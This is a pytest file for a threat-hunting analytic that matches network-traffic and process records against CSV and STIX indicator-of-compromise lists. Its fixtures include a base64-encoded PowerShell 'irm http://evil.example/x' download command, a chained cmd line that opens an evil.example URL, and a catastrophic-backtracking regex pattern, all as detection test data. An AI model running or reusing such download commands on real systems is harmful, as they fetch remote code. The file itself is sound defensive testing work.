"""Entities that lists of indicators know."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from kestrel.analytics import Outcome, find
from kestrel.errors import KestrelError
from kestrel.result import Table, Text
from tests.analytics.variables import Given, table

MD5 = "44d88612fea8a8f36de82e1278abb02f"
TRAFFIC = Given(
    [
        {"id": "n1", "src_ref.value": "10.0.0.1", "dst_ref.value": "203.0.113.7", "dst_port": 443, "protocols[*]": "tcp"},
        {"id": "n2", "src_ref.value": "10.0.0.2", "dst_ref.value": "198.51.100.20", "dst_port": 80, "protocols[*]": "tcp"},
        {"id": "n3", "src_ref.value": "10.0.0.1", "dst_ref.value": "2001:db8::5", "dst_port": 443, "protocols[*]": ["tcp", "tls"]},
    ],
    "network-traffic",
)
CODE = base64.b64encode("irm http://evil.example/x".encode("utf-16-le")).decode()
PROCESSES = Given(
    [
        {
            "id": "p1",
            "name": "Evil.exe",
            "pid": 443,
            "binary_ref.name": "Evil.exe",
            "binary_ref.x_path": "C:\\Temp\\Evil.exe",
            "binary_ref.hashes.MD5": MD5.upper(),
        },
        {"id": "p2", "name": "cmd.exe", "parent_ref.name": "Evil.exe", "command_line": "cmd /c ping 203.0.113.7 & start http://evil.example/a"},
        {"id": "p3", "name": "powershell.exe", "command_line": f"powershell -enc {CODE}"},
        {"id": "p4", "name": None, "command_line": None},
    ]
)


class Bench:
    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def csv(self, text: str) -> str:
        (self.folder / "list.csv").write_text(text, encoding="utf-8")
        return str(self.folder / "list.csv")

    def bundle(self, *patterns: str | dict[str, Any]) -> str:
        given = [p if isinstance(p, dict) else {"pattern": p} for p in patterns]
        objects = [{"type": "indicator", "name": f"i{n}", "pattern_type": "stix"} | p for n, p in enumerate(given)]
        path = self.folder / "bundle.json"
        path.write_text(json.dumps({"type": "bundle", "objects": [{"type": "malware", "name": "m"}, *objects]}), encoding="utf-8")
        return str(path)


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path)


def run(variable: Given, *paths: str) -> Outcome:
    return find("indicators").run([variable], {"path": list(paths) if len(paths) > 1 else paths[0]}, Path())


def known(variable: Given, *paths: str) -> dict[str, list[str]]:
    """The labels that each known entity has."""
    return {row["id"]: row["x_indicator_source"] for row in table(run(variable, *paths)) if row["x_indicator"]}


# -- CSV ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("value,type,label\n203.0.113.7,ipv4,C2\n", {"n1": ["C2"]}),
        ("# a feed\n\ufeffindicator;label\n203[.]0[.]113[.]7;C2\n".replace("\ufeff", ""), {"n1": ["C2"]}),
        ("\ufeffIOC_Value\tIOC_Type\tmalware\n203.0.113.7\tip\tRat\n", {"n1": ["Rat"]}),
        ("203.0.113.7\n2001:0DB8:0:0::5\n", {"n1": ["list.csv"], "n3": ["list.csv"]}),
        ("value,type\n203.0.113.0/24,network\n198.51.100.16/28,\n2001:db8::/32,cidr\n", {n: ["list.csv"] for n in ("n1", "n2", "n3")}),
        ("value,type\n203.0.113.7,domain\n", {}),
        ("value,type\n10.0.0.1,ip\n", {"n1": ["list.csv"], "n3": ["list.csv"]}),
        ("value\n203.0.113.70\n443\n", {}),
    ],
)
def test_addresses(text: str, expected: dict[str, list[str]], bench: Bench) -> None:
    assert known(TRAFFIC, bench.csv(text)) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"value,type\n{MD5},md5\n", ["p1"]),
        (f"{MD5}\n", ["p1"]),
        ("value,type\nevil.exe,filename\n", ["p1"]),
        ("value\nc:\\temp\\evil.exe\n", ["p1"]),
        (f"value,type,label\nevil.exe|{MD5},filename|md5,both\n", ["p1"]),
        ("value,type\nevil.example,domain\n", ["p3"]),
        ("value,type\nhxxp://evil[.]example/a,url\n", ["p2"]),
        ("value,type\n203.0.113.7,ip\n", ["p2"]),
        ("value,type\ncmd.exe,md5\n", []),
    ],
)
def test_processes(text: str, expected: list[str], bench: Bench) -> None:
    text = text.replace("evil.example,domain", "http://evil.example/x,url")
    assert sorted(known(PROCESSES, bench.csv(text))) == expected


def test_a_domain_in_a_command_line(bench: Bench) -> None:
    row = {"id": "a", "command_line": "nslookup evil.example 10.0.0.1"}
    assert known(Given([row]), bench.csv("evil.example\n")) == {"a": ["list.csv"]}


@pytest.mark.parametrize("piece", ["a", "a.", "1", "1.", "a-", "http://", "_.", "a" * 64, "ab.cd"])
def test_hostile_command_lines_are_searched_to_their_end(piece: str, bench: Bench) -> None:
    path, like = bench.csv("evil.example\n"), bench.bundle("[process:command_line LIKE '%a%a%a%a%a%a%a%a%a%a%z']")
    rows = Given([{"id": "a", "command_line": piece * (32_000 // len(piece)) + " evil.example"}])
    assert known(rows, path, like) == {"a": ["list.csv"]}


def test_what_is_said_of_a_match(bench: Bench) -> None:
    found = run(PROCESSES, bench.csv(f"value,type,label\n{MD5},md5,EICAR\nevil.exe,file,by name\n"))
    assert table(found)[0] == {"id": "p1", "x_indicator": ["evil.exe", MD5], "x_indicator_source": ["by name", "EICAR"]}
    assert table(found)[3] == {"id": "p4", "x_indicator": None, "x_indicator_source": None}
    (shown,) = found.displays
    assert isinstance(shown, Table) and shown.total == 2
    assert (MD5, "EICAR", "binary_ref.hashes.MD5", "Evil.exe", "p1") in shown.rows


# -- STIX --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("[ipv4-addr:value = '203.0.113.7']", ["n1"]),
        ("[ipv4-addr:value IN ('203.0.113.7', '198.51.100.20')]", ["n1", "n2"]),
        ("[ipv4-addr:value ISSUBSET '198.51.100.0/24' OR ipv6-addr:value = '2001:DB8::5']", ["n2", "n3"]),
        ("[network-traffic:dst_ref.value = '203.0.113.7' AND network-traffic:dst_port = 443]", ["n1"]),
        ("[network-traffic:dst_ref.type = 'ipv6-addr' AND network-traffic:dst_port = 443]", ["n3"]),
        ("[network-traffic:dst_port < 100]", ["n2"]),
        ("[network-traffic:protocols[*] = 'tls']", ["n3"]),
        ("[ipv4-addr:value LIKE '198.51.%']", ["n2"]),
        ("[ipv4-addr:value LIKE '%.1_3.%7']", ["n1"]),
        ("[ipv4-addr:value LIKE '203.0.113._']", ["n1"]),
        ("[ipv4-addr:value LIKE '203.0.113.7%7']", []),
        ("[ipv4-addr:value LIKE '203%']", ["n1"]),
        ("[ipv4-addr:value LIKE '203']", []),
        ("[network-traffic:dst_ref.value NOT IN ('203.0.113.7')]", ["n2", "n3"]),
        ("[ipv4-addr:value = '203.0.113.7'] OR [ipv4-addr:value = '198.51.100.20']", ["n1", "n2"]),
        ("[file:name = 'evil.exe']", []),
    ],
)
def test_patterns_of_traffic(pattern: str, expected: list[str], bench: Bench) -> None:
    assert sorted(known(TRAFFIC, bench.bundle(pattern))) == expected


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        (f"[file:hashes.MD5 = '{MD5}']", ["p1"]),
        (f"[file:hashes.'MD5' = '{MD5}' AND file:name = 'evil.exe']", ["p1"]),
        ("[file:hashes.'SHA-256' = 'aa' OR process:name = 'cmd.exe']", ["p2"]),
        ("[process:name = 'evil.exe']", ["p1"]),
        ("[process:image_ref.hashes.MD5 = '" + MD5 + "']", ["p1"]),
        ("[process:command_line LIKE '%PING%']", ["p2"]),
        ("[url:value = 'http://evil.example/x']", ["p3"]),
        ("[ipv4-addr:value = '203.0.113.7']", ["p2"]),
        ("[process:pid = 443]", ["p1"]),
    ],
)
def test_patterns_of_processes(pattern: str, expected: list[str], bench: Bench) -> None:
    assert sorted(known(PROCESSES, bench.bundle(pattern))) == expected


HOSTILE = [
    "[process:name MATCHES '(a+)+$']",
    "[process:name = 'a'] FOLLOWEDBY [process:name = 'b']",
    "[process:name = 'a'] WITHIN 5 SECONDS",
    "[process:name = 'cmd.exe'] LIMIT 1",
    "[process:name = 'cmd.exe'] DISP v",
    "[process:name = 'cmd.exe'] SAVE v TO 'x'",
    "[process:name = 'cmd.exe'] # rest",
    "[process:name = v.name]",
    "process:name = 'cmd.exe'",
    "[process:name = 'cmd.exe'",
    "[" * 2000,
    "",
]


def test_what_is_not_understood_is_told(bench: Bench) -> None:
    found = run(PROCESSES, bench.bundle(*HOSTILE, "[process:name = 'cmd.exe']"))
    assert [row["id"] for row in table(found) if row["x_indicator"]] == ["p2"]
    assert table(found)[1]["x_indicator_source"] == [f"i{len(HOSTILE)}"]
    stated = found.displays[1]
    assert isinstance(stated, Text) and f"{len(HOSTILE)} of {len(HOSTILE) + 1} indicators are left out" in stated.text


def test_revoked_and_foreign_patterns_do_not_count(bench: Bench) -> None:
    path = bench.bundle(
        {"pattern": "[process:name = 'cmd.exe']", "revoked": True}, {"pattern": "rule x {}", "pattern_type": "yara"}, "[process:name = 'evil.exe']"
    )
    found = run(PROCESSES, path)
    assert [row["id"] for row in table(found) if row["x_indicator"]] == ["p1"] and len(found.displays) == 1


def test_several_lists(bench: Bench) -> None:
    assert known(PROCESSES, bench.bundle("[process:name = 'cmd.exe']"), bench.csv("value,label\nevil.exe,csv\n")) == {"p1": ["csv"], "p2": ["i0"]}


def test_many_indicators_are_looked_up(bench: Bench) -> None:
    """A hundred thousand entities and thousands of indicators: by testing each it would be hundreds of millions of comparisons."""
    path = bench.bundle(*(f"[ipv4-addr:value = '203.{n // 250}.{n % 250}.1']" for n in range(3000)))
    rows = [{"id": str(n), "src_ref.value": "10.0.0.1", "dst_ref.value": f"203.0.{n % 250}.1"} for n in range(20_000)]
    assert len(known(Given(rows, "network-traffic"), path)) == 20_000


# -- mistakes ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "part"),
    [
        (None, "cannot be read"),
        (b"", "no indicator"),
        (b"value,label\n", "no indicator"),
        (b"a,b\n1,2\n", "no column `value`"),
        (b"\xff\xfe\x00x", "UTF-8"),
        (b"{broken", "no JSON"),
        (b"[{" * 100_000, "no JSON"),
        (b'{"objects": 3}', "no indicator"),
        (b'{"objects": [3, null, {"type": "indicator", "pattern": 5}]}', "no indicator"),
        (b'value\n"a quote that is not closed\n192.0.2.1\n', "no CSV"),
    ],
)
def test_lists_that_cannot_be_read(content: bytes | None, part: str, tmp_path: Path) -> None:
    path = tmp_path / "list"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(KestrelError) as caught:
        run(PROCESSES, str(path))
    assert caught.value.code == "K0511" and part in caught.value.message and str(path) in caught.value.message


def test_the_path_must_be_given() -> None:
    with pytest.raises(KestrelError) as caught:
        find("indicators").check(["process"], [])
    assert caught.value.code == "K0507" and "`path`" in caught.value.message
    for value in (3, [], ["", "a"], None):
        with pytest.raises(KestrelError) as caught:
            find("indicators").run([PROCESSES], {"path": value}, Path())
        assert caught.value.code == "K0509"
